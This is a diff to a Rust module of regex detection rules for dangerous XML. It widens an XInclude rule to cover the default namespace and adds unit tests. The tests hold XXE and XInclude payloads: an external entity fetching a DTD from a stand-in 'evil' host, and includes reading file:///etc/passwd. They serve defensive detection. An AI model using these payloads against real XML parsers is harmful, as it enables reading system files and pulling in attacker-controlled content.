@@ -85,7 +85,7 @@ static DECODED: LazyLock<Bank> = LazyLock::new(|| {
             (4, r"(?i)<!\s*doctype\s+[\w.:-]+\s*(?:\[|system\b)"),
             (
                 5,
-                r#"(?i)<\s*[\w-]+:include\b[^>]*\bhref\s*=|xmlns:[\w-]+\s*=\s*["']https?://www\.w3\.org/200[13]/xinclude"#,
+                r#"(?i)<\s*[\w-]+:include\b[^>]*\bhref\s*=|xmlns(?::[\w-]+)?\s*=\s*["']https?://www\.w3\.org/200[13]/xinclude"#,
             ),
             (6, r"(?i)<!\s*(?:element|attlist|notation)\s+[\w.:-]+"),
             (7, r"(?i)<!\s*doctype\s+[\w.:-]+\s+public\b"),
@@ -169,6 +169,15 @@ mod tests {
             ids(r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>"#).contains(&1602)
         );
         assert!(ids(r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#).contains(&1605));
+        // In the default namespace, as the XML extractor's start-tag target shows it.
+        assert!(
+            ids(r#"<include xmlns="http://www.w3.org/2001/XInclude" href="file:///etc/passwd">"#)
+                .contains(&1605)
+        );
+        assert!(
+            ids(r#"<include href="file:///etc/passwd" xmlns="http://www.w3.org/2003/XInclude">"#)
+                .contains(&1605)
+        );
         assert_eq!(
             ids_at(Location::Body, "!DOCTYPE", "<!DOCTYPE note>", 1),
             vec![1600]
